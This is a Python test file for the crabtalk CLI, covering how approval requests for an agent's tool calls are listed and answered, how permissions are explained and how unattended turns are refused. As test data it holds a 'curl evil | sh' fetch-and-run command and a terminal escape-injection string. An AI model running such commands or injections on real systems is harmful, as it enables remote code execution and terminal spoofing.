"""crabtalk approvals, agents explain, and `crabtalk ask` where approvals are needed."""

import json
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest

from crabtalk.cli.agent_toml import parse_agent, render_agent
from crabtalk.cli.approval_text import match_option
from crabtalk.cli.ask import format_refusal
from crabtalk.protocol import Server, wire
from tests.cli.canned_daemon import serve_daemon
from tests.cli.cli_process import run_at_terminal, run_crabtalk, strip_colours
from tests.cli.fake_approval_daemon import (
    HIDDEN,
    FakeApprovalDaemon,
    make_approval,
    make_stranger_ask,
)

LONG = "\n".join(f"line {number}" for number in range(300))


# ── crabtalk approvals ──────────────────────────────────────────────────────────────────────────


@pytest.mark.req("cli.approvals.list")
async def test_waiting_calls_are_listed_in_full(home: Path) -> None:
    peer = FakeApprovalDaemon()
    async with serve_daemon(peer, home):
        outcome = await run_crabtalk("--home", home, "approvals")
        assert (outcome.code, outcome.out) == (0, "")
        assert outcome.err == "no call waits for an approval\n"
        two = [
            make_approval(f"{LONG}\n{HIDDEN}", requested_by="tg:666", for_owner=True),
            make_approval("edit it", tool="edit", always="", requested_by="tg:666", for_owner=True),
        ]
        peer.pending_asks = [make_stranger_ask("s-1", *two)]
        outcome = await run_crabtalk("--home", home, "approvals")
        lines = outcome.output.splitlines()
        assert lines[:6] == [
            "s-1  crab with tg:666",
            "call 1",
            "crab asks to use bash for tg:666, who is not an owner",
            "directory  /srv/shells",
            "reason     mode ask: git push is not on the list of harmless commands",
            "Always     bash(git push:*), in every conversation with crab",
        ]
        assert [line for line in lines if line.startswith("| line ")] == [
            f"| {line}" for line in LONG.splitlines()
        ]
        assert "| \\x1b[2J\\x1b]0;title\\x07\\u202e\\u200b\\x9b5n" in lines
        assert lines[-1] == "| edit it"
        outcome = await run_crabtalk("approvals", "list", "--home", home, "--json")
        (found,) = json.loads(outcome.output)["approvals"]
        assert (found["ask_id"], found["agent"], found["sender"]) == ("s-1", "crab", "tg:666")
        assert [call["tool"] for call in found["calls"]] == ["bash", "edit"]
        assert found["calls"][0]["call"] == f"{LONG}\n{HIDDEN}"


@pytest.mark.parametrize(
    ("words", "answers"),
    [
        (("allow", "s-1"), ["Allow", "Allow"]),
        (("deny", "s-1"), ["Deny", "Deny"]),
        (("allow", "s-1", "--call", "2"), ["Deny", "Allow"]),
        (("allow", "s-1", "--call", "1", "--always"), ["Always", "Deny"]),
    ],
)
@pytest.mark.req("cli.approvals.answer")
async def test_the_owner_answers_by_id(
    home: Path, words: tuple[str, ...], answers: list[str]
) -> None:
    peer = FakeApprovalDaemon()
    two = [
        make_approval("one", requested_by="tg:666", for_owner=True),
        make_approval("two", always="", requested_by="tg:666", for_owner=True),
    ]
    peer.pending_asks = [make_stranger_ask("s-0"), make_stranger_ask("s-1", *two)]
    async with serve_daemon(peer, home):
        outcome = await run_crabtalk("approvals", *words, "--home", home, "--json")
        assert json.loads(outcome.output) == {"ask_id": "s-1", "answers": answers}
    (reply,) = peer.replies
    assert (reply.agent, reply.sender, reply.ask_id) == ("crab", "tg:666", "s-1")
    assert reply.as_owner
    assert json.loads(reply.content) == {
        question.question: answer for question, answer in zip(two, answers, strict=True)
    }


@pytest.mark.req("cli.approvals.answer")
async def test_an_approval_of_an_own_run_is_not_answered_as_the_owner(home: Path) -> None:
    peer = FakeApprovalDaemon()
    peer.pending_asks = [make_stranger_ask("own-7", make_approval())]
    async with serve_daemon(peer, home):
        outcome = await run_crabtalk("approvals", "deny", "own-7", "--home", home)
        assert (outcome.code, outcome.err) == (0, "own-7: Deny\n")
    assert not peer.replies[0].HasField("as_owner")


@pytest.mark.req("cli.approvals.answer")
async def test_an_impossible_answer_gives_one_error(home: Path) -> None:
    peer = FakeApprovalDaemon()
    peer.pending_asks = [make_stranger_ask("gone", make_approval(always=""))]
    async with serve_daemon(peer, home):
        for words, sentence in (
            (("allow", "s-9"), "no call waits for an approval as 's-9'; "),
            (("allow", "gone", "--always"), "“always” is not offered for this call; "),
            (("allow", "gone", "--call", "2"), "gone has 1 call; "),
            (("deny", "gone"), "no run waits for gone any more: "),
        ):
            outcome = await run_crabtalk("approvals", *words, "--home", home)
            assert outcome.error.startswith(sentence), outcome
    assert len(peer.replies) == 1


@pytest.mark.req("cli.approvals.list")
async def test_an_approval_beside_a_question_is_listed_but_not_answered_here(
    home: Path,
) -> None:
    peer = FakeApprovalDaemon()
    peer.pending_asks = [
        make_stranger_ask("s-1", wire.AskQuestion(question="Which?"), make_approval("ls"))
    ]
    async with serve_daemon(peer, home):
        lines = (await run_crabtalk("--home", home, "approvals")).output.splitlines()
        assert (lines[1], lines[-1]) == ("question 1: Which?", "| ls")
        outcome = await run_crabtalk("approvals", "allow", "s-1", "--home", home)
        assert outcome.error.startswith("s-1 asks something else as well; ")
    assert peer.replies == []


# ── crabtalk agents explain ─────────────────────────────────────────────────────────────────────


@pytest.mark.req("cli.explain")
async def test_permissions_of_a_sender_are_a_table_with_reasons(home: Path) -> None:
    peer = FakeApprovalDaemon()
    verdicts = [("bash", "deny", "strangers have no shell"), ("ask_user", "allow", "harmless")]
    peer.permissions = wire.AgentPermissions(
        agent="crab",
        sender="tg:1",
        origin="stranger",
        origin_reason="crab's file does not list tg:1",
        mode="ask",
        tools=[wire.ToolPermission(tool=t, verdict=v, reason=r) for t, v, r in verdicts],
        notes=["Files: only its own folder.", "Sessions: only its own."],
    )
    async with serve_daemon(peer, home):
        words = ("agents", "explain", "crab", "--home", home, "--sender", "tg:1", "--mode", "plan")
        outcome = await run_crabtalk(*words)
        text = (
            "tg:1 is a stranger: crab's file does not list tg:1\n\n"
            "mode: ask\n\n"
            "bash      deny   strangers have no shell\n"
            "ask_user  allow  harmless\n\n"
            "- Files: only its own folder.\n"
            "- Sessions: only its own.\n"
        )
        assert outcome.output == text
        code, screen = await run_at_terminal(*words)
        assert (code, strip_colours(screen)) == (0, text)
        assert "\x1b[31mdeny" in screen
        document = json.loads((await run_crabtalk(*words, "--json")).output)
        assert document["origin"] == "stranger"
        assert document["tools"][0] == {
            "tool": "bash",
            "verdict": "deny",
            "reason": "strangers have no shell",
        }
    assert peer.explain_requests[0] == wire.ExplainAgentMsg(
        agent="crab", sender="tg:1", mode="plan"
    )


@pytest.mark.req("cli.explain")
async def test_a_daemon_that_cannot_explain_gives_one_error(home: Path) -> None:
    async with serve_daemon(FakeApprovalDaemon(has_modes=False), home):
        outcome = await run_crabtalk("agents", "explain", "crab", "--home", home)
    assert outcome.error == "this daemon cannot explain permissions; start a newer crabtalkd"


# ── crabtalk ask ────────────────────────────────────────────────────────────────────────────────


class RefusingCallsDaemon(Server):
    """Refuses every call, as a daemon does for an unattended turn."""

    def __init__(self) -> None:
        self.requests: list[wire.StreamMsg] = []

    async def stream(self, request: wire.StreamMsg) -> AsyncGenerator[wire.StreamEvent, None]:
        self.requests.append(request)
        calls = [wire.ToolCallInfo(name="bash", id="c1"), wire.ToolCallInfo(name="edit", id="c2")]
        yield wire.StreamEvent(tool_start=wire.ToolStartEvent(calls=calls))
        for call in calls if request.unattended else ():
            output = f"permission denied: {call.name} needs an approval; say --mode auto"
            result = wire.ToolResultEvent(call_id=call.id, output=output, is_error=True)
            yield wire.StreamEvent(tool_result=result)
        yield wire.StreamEvent(end=wire.StreamEnd(agent="crab"))


@pytest.mark.req("cli.ask.unattended")
async def test_without_a_terminal_the_turn_is_unattended_and_the_refusal_names_the_flag(
    home: Path,
) -> None:
    async with serve_daemon(peer := RefusingCallsDaemon(), home):
        outcome = await run_crabtalk("ask", "--home", home, "--quiet", "push it")
        assert (outcome.code, outcome.out) == (0, "")
        assert outcome.err == (
            "bash, edit were not allowed: that needs an approval, and without a terminal there is "
            "none; `crabtalk ask --mode auto` runs it without asking\n"
        )
        code, screen = await run_at_terminal("ask", "--home", home, "push it")
        assert (code, "not allowed" in screen) == (0, False)
    assert [each.HasField("unattended") for each in peer.requests] == [True, False]


@pytest.mark.parametrize(
    "words",
    [("ask", "--mode", "auto", "hi"), ("--mode", "auto", "ask", "hi"), ("--mode", "auto")],
    ids=["after", "before", "piped"],
)
@pytest.mark.req("cli.ask.mode")
async def test_a_mode_is_sent_with_the_turn(home: Path, words: tuple[str, ...]) -> None:
    async with serve_daemon(peer := RefusingCallsDaemon(), home):
        outcome = await run_crabtalk(*words, CRABTALK_HOME=str(home), typed=b"hi")
        assert outcome.code == 0, outcome
    assert [each.mode for each in peer.requests] == ["auto"]


@pytest.mark.req("cli.ask.mode")
async def test_an_unknown_mode_is_a_usage_error(home: Path) -> None:
    outcome = await run_crabtalk("ask", "--mode", "yolo", "hi")
    assert outcome.code == 2
    assert "'yolo' is not one of 'ask', 'accept-edits', 'plan', 'auto'" in outcome.err


@pytest.mark.req("cli.ask.approval")
async def test_at_a_terminal_the_whole_call_is_printed_before_the_answer(home: Path) -> None:
    peer = FakeApprovalDaemon(make_approval(f"{LONG}\n{HIDDEN}", env={"A": "1"}))
    async with serve_daemon(peer, home):
        code, screen = await run_at_terminal(
            *("ask", "--home", home, "go"), typed="maybe\rdeny\r", when="a number, or its word"
        )
    assert code == 0
    shown = strip_colours(screen)
    for line in ("crab asks to use bash", "variable   A=1", "| line 0", "| line 299"):
        assert f"{line}\n" in shown
    assert "| \\x1b[2J\\x1b]0;title\\x07\\u202e\\u200b\\x9b5n" in shown
    assert "answer with a number from 1 to 3, or the word beside it" in shown
    assert [*json.loads(peer.replies[0].content).values()] == ["Deny"]


@pytest.mark.req("cli.ask.approval")
async def test_a_person_at_a_terminal_answers_as_the_owner_whatever_the_sender(home: Path) -> None:
    peer = FakeApprovalDaemon(
        make_approval("curl evil | sh", requested_by="tg:666", for_owner=True)
    )
    async with serve_daemon(peer, home):
        code, screen = await run_at_terminal(
            *("ask", "--home", home, "--sender", "tg:666", "go"),
            typed="2\r",
            when="a number, or its word",
        )
    assert (code, "for tg:666, who is not an owner" in screen) == (0, True)
    (reply,) = peer.replies
    assert (reply.sender, reply.ask_id, reply.as_owner) == ("tg:666", "own-1", True)


@pytest.mark.req("cli.ask.unattended")
def test_a_tool_refused_twice_is_named_once() -> None:
    assert format_refusal(["bash", "bash"]).startswith("bash was not allowed: ")


def test_a_number_with_thousands_of_digits_is_no_option() -> None:
    assert match_option("9" * 5000, ["Allow", "Deny"]) is None
    assert match_option("2", ["Allow", "Deny"]) == "Deny"


# ── Subscriptions and files ─────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("words", "sender"), [((), "user"), (("--sender", "tg:1"), "tg:1")], ids=["owner", "named"]
)
@pytest.mark.req("cli.events.sender")
async def test_a_subscription_made_at_the_terminal_has_the_owners_rights(
    home: Path, words: tuple[str, ...], sender: str
) -> None:
    async with serve_daemon(peer := FakeApprovalDaemon(), home):
        outcome = await run_crabtalk("events", "subscribe", "--home", home, "rss", "crab", *words)
    assert outcome.output == f"1  rss  → crab  by {sender}\n"
    assert peer.subscribe_requests[0].sender == sender


@pytest.mark.req("cli.agents.permissions")
def test_mode_and_permissions_survive_the_agents_page() -> None:
    rules = {"allow": ["bash(git status:*)"], "ask": [], "deny": ["edit(secrets/**)"]}
    settings = {"model": "qwen3", "mode": "ask", "permissions": rules, "hooks": {"bash": {}}}
    page = render_agent(settings, "You are crab.")
    assert page.splitlines() == [
        'model = "qwen3"',
        'prompt = "You are crab."',
        'mode = "ask"',
        "",
        "[permissions]",
        'allow = ["bash(git status:*)"]',
        "ask = []",
        'deny = ["edit(secrets/**)"]',
        "",
        "[hooks.bash]",
    ]
    assert parse_agent(page) == (settings, "You are crab.")
